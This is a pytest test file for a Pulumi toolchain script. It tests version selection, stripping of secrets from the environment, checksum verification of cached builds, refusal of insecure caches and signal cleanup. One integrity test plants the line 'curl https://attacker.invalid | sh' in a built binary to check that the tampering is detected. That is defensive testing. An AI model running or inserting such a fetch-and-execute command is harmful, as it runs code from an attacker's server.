"""scripts/pulumi_toolchain.py: which CLI it picks, what it says when it cannot, and the project files it relies on."""

from __future__ import annotations

import dataclasses
import importlib.util
import os
import select
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml  # type: ignore[import-untyped]

REPO_ROOT = Path(__file__).resolve().parents[2]
SCRIPT = REPO_ROOT / "scripts" / "pulumi_toolchain.py"


def load() -> Any:
    spec = importlib.util.spec_from_file_location("pulumi_toolchain_under_test", SCRIPT)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up there
    spec.loader.exec_module(module)
    return module


def fake_pulumi(directory: Path, version: str) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    exe = directory / "pulumi"
    exe.write_text(f"#!/bin/sh\necho {version}\n")
    exe.chmod(0o755)
    (directory / "pulumi-language-python").write_text("#!/bin/sh\n")
    (directory / "pulumi-language-python").chmod(0o755)
    return directory


def run_script(path_dirs: list[Path], tmp_path: Path) -> subprocess.CompletedProcess[str]:
    env = {
        "PATH": os.pathsep.join(str(d) for d in path_dirs),
        "HOME": str(tmp_path),
        "XDG_CACHE_HOME": str(tmp_path / "cache"),
    }
    return subprocess.run([sys.executable, str(SCRIPT)], env=env, capture_output=True, text=True, timeout=60)


def test_a_recent_pulumi_on_path_is_used_as_is(tmp_path: Path) -> None:
    bin_dir = fake_pulumi(tmp_path / "bin", "v3.274.1")
    proc = run_script([bin_dir, Path("/usr/bin"), Path("/bin")], tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip().splitlines()[-1] == str(bin_dir.resolve())
    assert "using the Pulumi CLI on PATH" in proc.stderr


def test_an_old_pulumi_is_passed_over_and_without_go_the_reason_is_given(tmp_path: Path) -> None:
    bin_dir = fake_pulumi(tmp_path / "bin", "v3.100.0")
    system = [Path(p) for p in ("/usr/bin", "/bin") if not (Path(p) / "go").exists()]
    proc = run_script([bin_dir, *system], tmp_path)
    assert proc.returncode != 0
    assert proc.stdout == ""
    assert "older than 3.216.0" in proc.stderr
    assert "no `go`" in proc.stderr and "Install the Pulumi CLI" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_pins_come_from_the_committed_wrapper_modules() -> None:
    module = load()
    assert module.parse_version(module.pinned_version()) >= module.MIN_PATH_VERSION
    assert [b.name for b in module.BUILDS] == [
        "pulumi",
        "pulumi-language-python",
        "pulumi-language-nodejs",
        "pulumi-language-go",
        "pulumi-language-java",
        "pulumi-language-yaml",
    ]
    for build in module.BUILDS:
        assert module.parse_version(module.pinned_version(build)) is not None
        go_mod = (build.wrapper / "go.mod").read_text()
        assert build.package.split("/cmd/")[0] in go_mod, f"{build.name}: its module is required"
        assert (build.wrapper / "go.sum").read_text().strip(), "go.sum pins every module's hash"
    hosts = (module.TOOLS / "hosts" / "go.mod").read_text()
    assert "pulumi-language-python/v3 v3.0.0-" in hosts, "the hosts are only served at a pseudo-version"


def test_build_dir_changes_with_the_pins(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    module = load()
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    first = module.build_dir()
    assert first.parent == tmp_path / "bandwidth-pulumi" and module.pinned_version() in first.name
    wrapper = tmp_path / "wrapper"
    wrapper.mkdir()
    for name in ("go.mod", "go.sum"):
        (wrapper / name).write_text((module.CLI.wrapper / name).read_text() + "\n// changed\n")
    monkeypatch.setattr(module, "BUILDS", (dataclasses.replace(module.CLI, wrapper=wrapper), *module.BUILDS[1:]))
    assert module.build_dir() != first


def test_offline_env_keeps_pulumi_off_the_network(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    module = load()
    monkeypatch.setenv("BANDWIDTH_PASSWORD", "leaks-into-programs")
    monkeypatch.setenv("PULUMI_ACCESS_TOKEN", "cloud-token")
    env = module.offline_env(tmp_path / "bin", tmp_path / "backend", tmp_path / "home", "pass")
    assert env["PULUMI_BACKEND_URL"] == (tmp_path / "backend").resolve().as_uri()
    assert env["PULUMI_SKIP_UPDATE_CHECK"] == "true"
    assert env["PULUMI_DISABLE_AUTOMATIC_PLUGIN_ACQUISITION"] == "true"
    assert env["PATH"].split(os.pathsep)[0] == str(tmp_path / "bin")
    assert "BANDWIDTH_PASSWORD" not in env and "PULUMI_ACCESS_TOKEN" not in env


def test_root_project_names_pip_and_a_venv_the_dynamic_provider_also_finds() -> None:
    """The engine resolves `virtualenv` against the project root for the program, but the dynamic
    provider's shim resolves it against the program directory (`main`) - pulumi/pulumi#7061. The
    quickstart's program directory therefore carries a `.venv` link to the root one."""
    manifest = yaml.safe_load((REPO_ROOT / "Pulumi.yaml").read_text())
    options = manifest["runtime"]["options"]
    assert options["toolchain"] == "pip"
    program_dir = REPO_ROOT / manifest["main"]
    venv = options["virtualenv"]
    assert (program_dir / venv).resolve() == (REPO_ROOT / venv).resolve()


FAKE_GO = """\
#!{python}
\"\"\"A stand-in for `go`: `build -o OUT` writes a script printing the version that -ldflags stamps.\"\"\"
import os, sys, time
from pathlib import Path

args = sys.argv[1:]
with open(os.environ["FAKE_GO_LOG"], "a") as log:
    log.write(args[0] + "\\n")
if args[0] == "build":
    pidfile = os.environ.get("FAKE_GO_PIDFILE")
    if pidfile:  # block like a long compile, until killed
        Path(pidfile + ".tmp").write_text(str(os.getpid()))
        os.rename(pidfile + ".tmp", pidfile)
        while True:
            time.sleep(60)
    out = Path(args[args.index("-o") + 1])
    out.write_text("#!/bin/sh\\necho " + args[args.index("-ldflags") + 1].rsplit("=", 1)[1] + "\\n")
    out.chmod(0o755)
elif args[:2] == ["list", "-m"]:
    print(os.environ["FAKE_GO_SDK"])
"""


class FakeGo:
    """A tmp cache, a fake `go` on PATH and the sdk module's two scripts: a whole build in well under a second."""

    def __init__(self, tmp_path: Path) -> None:
        self.root = tmp_path
        fake_bin = tmp_path / "fakebin"
        fake_bin.mkdir()
        (fake_bin / "go").write_text(FAKE_GO.format(python=sys.executable))
        (fake_bin / "go").chmod(0o755)
        sdk = tmp_path / "sdk"
        for relative in ("python/cmd/pulumi-language-python-exec", "python/dist/pulumi-resource-pulumi-python"):
            (sdk / relative).parent.mkdir(parents=True, exist_ok=True)
            (sdk / relative).write_text("#!/bin/sh\n")
        self.log = tmp_path / "go.log"
        self.pidfile = tmp_path / "go.pid"
        self.cache = tmp_path / "cache"
        self.env = {
            "PATH": os.pathsep.join([str(fake_bin), "/usr/bin", "/bin"]),
            "HOME": str(tmp_path),
            "XDG_CACHE_HOME": str(self.cache),
            "FAKE_GO_LOG": str(self.log),
            "FAKE_GO_SDK": str(sdk),
        }

    def builds(self) -> int:
        return self.log.read_text().splitlines().count("build") if self.log.exists() else 0

    def run(self) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, str(SCRIPT), "--build"], env=self.env, capture_output=True, text=True, timeout=60
        )

    def start(self) -> subprocess.Popen[str]:
        env = {**self.env, "FAKE_GO_PIDFILE": str(self.pidfile)}
        return subprocess.Popen(
            [sys.executable, str(SCRIPT), "--build"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )


def test_a_build_records_its_sums_and_a_tampered_binary_is_rebuilt(tmp_path: Path) -> None:
    go = FakeGo(tmp_path)
    first = go.run()
    assert first.returncode == 0, first.stderr
    bin_dir = Path(first.stdout.strip().splitlines()[-1])
    sums = (bin_dir.parent / "SHA256SUMS").read_text()
    module = load()
    assert sorted(line.split()[1] for line in sums.splitlines()) == [f"bin/{n}" for n in module.expected_files()]
    built = go.builds()
    assert built == len(module.BUILDS)

    again = go.run()
    assert again.returncode == 0 and "reusing the cached build" in again.stderr
    assert go.builds() == built, "a build that matches its sums is reused as it is"

    pulumi = bin_dir / "pulumi"
    pulumi.write_text("#!/bin/sh\necho v3.274.1; curl https://attacker.invalid | sh\n")
    tampered = go.run()
    assert tampered.returncode == 0, tampered.stderr
    assert "bin/pulumi differs from what was built" in tampered.stderr and "building it again" in tampered.stderr
    assert go.builds() == 2 * built
    assert "attacker" not in pulumi.read_text()

    (bin_dir / "pulumi-resource-extra").write_text("#!/bin/sh\n")
    (bin_dir / "pulumi-resource-extra").chmod(0o755)
    extra = go.run()
    assert "pulumi-resource-extra" in extra.stderr and "building it again" in extra.stderr
    assert not (bin_dir / "pulumi-resource-extra").exists()


@pytest.mark.parametrize("where", ["cache root", "build dir"])
def test_a_cache_others_can_write_is_refused(tmp_path: Path, where: str) -> None:
    go = FakeGo(tmp_path)
    bin_dir = Path(go.run().stdout.strip().splitlines()[-1])
    victim = go.cache / "bandwidth-pulumi" if where == "cache root" else bin_dir.parent
    victim.chmod(victim.stat().st_mode | (0o002 if where == "cache root" else 0o020))
    proc = go.run()
    assert proc.returncode == 1 and proc.stdout == ""
    assert f"refusing the toolchain cache {victim}: others can write to it" in proc.stderr
    assert "chmod go-w" in proc.stderr and "Traceback" not in proc.stderr
    assert go.builds() == len(load().BUILDS), "nothing is built into it either"


def test_a_cache_owned_by_another_user_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    module = load()
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    (tmp_path / "bandwidth-pulumi").mkdir(mode=0o755)
    stranger = os.geteuid() + 4242
    monkeypatch.setattr(module.os, "geteuid", lambda: stranger)
    with pytest.raises(module.ToolchainError, match=rf"owned by uid {os.getuid()}, not by you \(uid {stranger}\)"):
        module.ensure(force_build=True)


def wait_for_exit(pid_fd: int, timeout: float) -> bool:
    """True once the process behind a pidfd has ended (a bounded wait on the process itself)."""
    readable, _, _ = select.select([pid_fd], [], [], timeout)
    return bool(readable)


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_during_a_build_ends_go_and_removes_the_staging_dir(tmp_path: Path, sig: signal.Signals) -> None:
    go = FakeGo(tmp_path)
    proc = go.start()
    try:
        for _ in range(600):  # until the fake go has started its build (at most 30 s)
            try:
                proc.wait(timeout=0.05)
                pytest.fail(f"the script ended before building: {proc.communicate()}")
            except subprocess.TimeoutExpired:
                pass
            if go.pidfile.exists():
                break
        child = int(go.pidfile.read_text())
        pid_fd = os.pidfd_open(child)
        assert list((go.cache / "bandwidth-pulumi").glob(".build-*")), "the build is staged"
        proc.send_signal(sig)
        _, stderr = proc.communicate(timeout=60)
        assert proc.returncode == 128 + sig, stderr
        assert f"interrupted by {sig.name}" in stderr and "Traceback" not in stderr
        assert list((go.cache / "bandwidth-pulumi").glob(".build-*")) == []
        assert wait_for_exit(pid_fd, 30), f"the `go build` child {child} outlived the script"
        os.close(pid_fd)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        if go.pidfile.exists():
            try:
                os.kill(int(go.pidfile.read_text()), signal.SIGKILL)
            except ProcessLookupError:
                pass


def test_a_staging_dir_left_by_a_killed_build_is_removed(tmp_path: Path) -> None:
    go = FakeGo(tmp_path)
    stale = go.cache / "bandwidth-pulumi" / ".build-killed"
    (stale / "bin").mkdir(parents=True)
    (go.cache / "bandwidth-pulumi").chmod(0o700)
    proc = go.run()
    assert proc.returncode == 0, proc.stderr
    assert not stale.exists() and "left by an interrupted build" in proc.stderr
